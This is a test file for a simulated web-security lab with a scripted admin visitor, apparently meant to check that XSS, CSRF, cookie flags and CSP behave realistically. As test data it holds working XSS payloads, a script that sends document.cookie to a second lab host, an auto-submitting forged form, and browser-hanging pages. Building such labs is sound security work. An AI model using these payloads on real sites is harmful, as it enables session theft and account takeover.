// cspell:ignore onload onerror
import { describe, expect, it } from 'vitest';
import { useSealedPython } from '../python/sealed-python-for-tests.ts';
import { ASK_SHOP } from './lab-apps-for-tests.ts';
import type { LabVisitor } from './scenario-visitors.ts';
import type { LabScenario } from './scenario.ts';

const python = useSealedPython();

/** A site with sessions, notes that it doesn't escape, and an address that a form changes. */
const NOTES = `
def start(store):
    store.data.update(notes=[], email="admin@notes.test", headers=[])

def handle(request, store):
    user = {"s-admin": "admin"}.get(request.cookies.get("session"))
    if request.path == "/login":
        is_right = request.form.get("password") == "heron-feather"
        return (302, "", {"Location": "/", "Set-Cookie": store.data["cookie"]}) if is_right else (401, "wrong")
    if request.path == "/notes" and request.method == "POST":
        store.data["notes"].append(request.form["text"])
        return "saved"
    if request.path == "/notes":
        return 200, "<ul>" + "".join(f"<li>{note}</li>" for note in store.data["notes"]) + "</ul>", store.data["headers"]
    if request.path == "/email" and request.method == "POST" and user:
        store.data["email"] = request.form["email"]
        store.data["origin"] = request.headers.get("origin")
        return "changed"
    if request.path == "/state":
        return {"email": store.data["email"], "alerts": store.alerts, "origin": store.data.get("origin")}
    return "hello " + (user or "stranger")
`;

/** A site where anyone can put a page, and that remembers what was asked of it. */
const PAGES = `
def start(store):
    store.data.update(pages={}, asked=[])

def handle(request, store):
    if request.method == "PUT":
        store.data["pages"][request.path] = request.body
        return 201, "kept"
    if request.path == "/asked":
        return store.data["asked"]
    store.data["asked"].append([request.method, request.target, request.headers.get("cookie", ""), request.headers.get("referer", "")])
    return store.data["pages"].get(request.path, (404, "nothing"))
`;

const admin: LabVisitor = {
  name: 'admin',
  ip: '192.0.2.77',
  visits: [
    { at: 1, url: 'http://notes.test/login', form: { password: 'heron-feather' } },
    { at: 10, url: 'http://notes.test/notes', every: 10, times: 3 },
    { at: 60, url: 'http://pages.test/page', click: 'Prize' },
  ],
};

function labWith(cookie: string, more: Partial<LabScenario> = {}): LabScenario {
  return {
    log: true,
    hosts: [
      { ip: '192.0.2.10', names: ['notes.test'], ports: { '80': { app: 'notes' } } },
      { ip: '192.0.2.11', names: ['pages.test'], ports: { '80': { app: 'pages' } } },
    ],
    apps: {
      notes: { file: 'notes.py', source: NOTES, data: { cookie } },
      pages: { file: 'pages.py', source: PAGES },
    },
    visitors: [admin],
    ...more,
  };
}

const OPEN = 'session=s-admin; Path=/; SameSite=None';
const LAX = 'session=s-admin; Path=/; HttpOnly';

const HELP = `
import json
def note(text):
    ask("/notes", urllib.parse.urlencode({"text": text}), "notes.test")
def put(path, text):
    client = http.client.HTTPConnection("pages.test")
    client.request("PUT", path, text)
    client.getresponse()
def state():
    return json.loads(ask("/state", None, "notes.test")[1])
def asked():
    return json.loads(ask("/asked", None, "pages.test")[1])
`;

async function run(program: string, lab: LabScenario): Promise<string[]> {
  const { stdout, error } = await python.run(ASK_SHOP + HELP + program, { lab });
  expect(error).toBeNull();
  return stdout.trimEnd().split('\n');
}

describe('a visitor', () => {
  it('opens pages while the program waits, and not before', async () => {
    const lines = await run(
      `
import lab
note("<script>alert('one')</script>")
print(state()["alerts"])
time.sleep(12)
print(state()["alerts"])
time.sleep(100)
print(state()["alerts"])
print([(row["time"], row["visitor"], row["url"], row["status"], row["alerts"]) for row in lab.visits()][:3])
print([(row["time"], row["source"], row["path"], row["status"]) for row in lab.requests() if row["source"] != "10.0.0.99"][:3])
`,
      labWith(LAX),
    );
    expect(lines).toEqual([
      '[]',
      "['one']",
      "['one', 'one', 'one']",
      "[(1.0, 'admin', 'http://notes.test/login', 200, []), (10.0, 'admin', 'http://notes.test/notes', 200, ['one']), (20.0, 'admin', 'http://notes.test/notes', 200, ['one'])]",
      "[(1.0, '192.0.2.77', '/login', 302), (1.0, '192.0.2.77', '/', 200), (10.0, '192.0.2.77', '/notes', 200)]",
    ]);
  });

  it.each([
    ['text', '<script>alert("x" + 1)</script>'],
    ['an attribute', '<img src="http://pages.test/none" alt="" onerror="alert(\'x1\')">'],
    ['an element', '<svg onload=alert("x1")>'],
    ['an entity', '<svg onload="alert(&quot;x1&quot;)">'],
  ])('runs a script in %s', async (_name, text) => {
    const lines = await run(
      `note(${JSON.stringify(text)})\ntime.sleep(15)\nprint(state()["alerts"])`,
      labWith(LAX),
    );
    expect(lines).toEqual(["['x1']"]);
  });

  it('runs a script behind a link when it is clicked', async () => {
    const lines = await run(
      `
put("/page", "<a href='java\\tscript:alert(location.href)'>Prize</a>")
time.sleep(70)
import lab
print(lab.visits()[-1]["alerts"])
`,
      labWith(LAX),
    );
    expect(lines).toEqual(["['http://pages.test/page']"]);
  });

  it('gives a script the cookies of its site, except those for the server alone', async () => {
    const steal = `note("<script>new Image().src = 'http://pages.test/got?' + encodeURIComponent(document.cookie)</script>")\ntime.sleep(15)\nprint(asked())`;
    const [open] = await run(steal, labWith('session=s-admin; Path=/'));
    expect(open).toBe("[['GET', '/got?session%3Ds-admin', '', 'http://notes.test/']]");
    const [hidden] = await run(steal, labWith(LAX));
    expect(hidden).toBe("[['GET', '/got', '', 'http://notes.test/']]");
  });

  it('does not run scripts that a Content-Security-Policy forbids', async () => {
    const lab = labWith(LAX);
    const policy = NOTES.replace(
      'headers=[]',
      `headers={"Content-Security-Policy": "default-src 'self'"}`,
    );
    const lines = await run(
      `note("<script>alert(1)</script><svg onload=alert(2)>")\ntime.sleep(15)\nprint(state()["alerts"])`,
      { ...lab, apps: { ...lab.apps, notes: { file: 'notes.py', source: policy } } },
    );
    expect(lines).toEqual(['[]']);
  });
});

describe('a page on another site', () => {
  const FORGED = `
put("/page", "<form action='http://notes.test/email' method=post><input name=email value='me@pages.test'></form><script>document.forms[0].submit()</script>")
time.sleep(70)
found = state()
print(found["email"], found["origin"])
`;

  it('changes something with a form if the cookie is sent to every site', async () => {
    expect(await run(FORGED, labWith(OPEN))).toEqual(['me@pages.test http://pages.test']);
  });

  it('changes nothing if the cookie stays on its site', async () => {
    expect(await run(FORGED, labWith(LAX))).toEqual(['admin@notes.test None']);
  });

  it('can’t use cookies in requests of scripts', async () => {
    const lines = await run(
      `
put("/page", "<script>fetch('http://notes.test/email', {method: 'POST', body: 'email=me'})</script>")
time.sleep(70)
print(state()["email"])
`,
      labWith(OPEN),
    );
    expect(lines).toEqual(['admin@notes.test']);
  });
});

describe('hostile pages', () => {
  it.each([
    ['a script that the browser can’t read', '<script>while(true){}</script>'],
    ['a page that opens itself', '<script>location = "/notes"</script>'],
    ['a frame that contains itself', '<iframe src="/notes"></iframe>'],
    ['thousands of images', '<img src=/x>'.repeat(2_000)],
    ['deep calls', `<script>alert(${'btoa('.repeat(900)}"x"${')'.repeat(900)})</script>`],
    ['a long script', `<script>${'alert(1);'.repeat(1_500)}</script>`],
    ['broken markup', '<![CDATA[<!<a <b ="><script'],
    ['a link to nowhere', '<script>location = "http://[::1"</script>'],
  ])('%s: the site and the visitor go on', async (_name, text) => {
    const lines = await run(
      `
note(${JSON.stringify(text)})
time.sleep(25)
print(ask("/", None, "notes.test"), len([1 for _ in __import__("lab").visits()]))
`,
      labWith(LAX),
    );
    expect(lines).toEqual(["(200, 'hello stranger') 3"]);
  });

  it('a program finds neither the visitor’s password nor the plan of the visits', async () => {
    const lines = await run(
      `
import gc, sys
NEEDLE = "heron-" "fea"
note("<script>alert(1)</script>")
time.sleep(15)
state()
found, waiting, seen = [], [gc.get_objects(), sys.modules], set()
while waiting:
    each = waiting.pop()
    if id(each) in seen:
        continue
    seen.add(id(each))
    if isinstance(each, str):
        if NEEDLE in each and each != NEEDLE:
            found.append(each)
    else:
        waiting.extend(gc.get_referents(each))
print(found)
`,
      labWith(LAX),
    );
    expect(lines).toEqual(['[]']);
  });
});
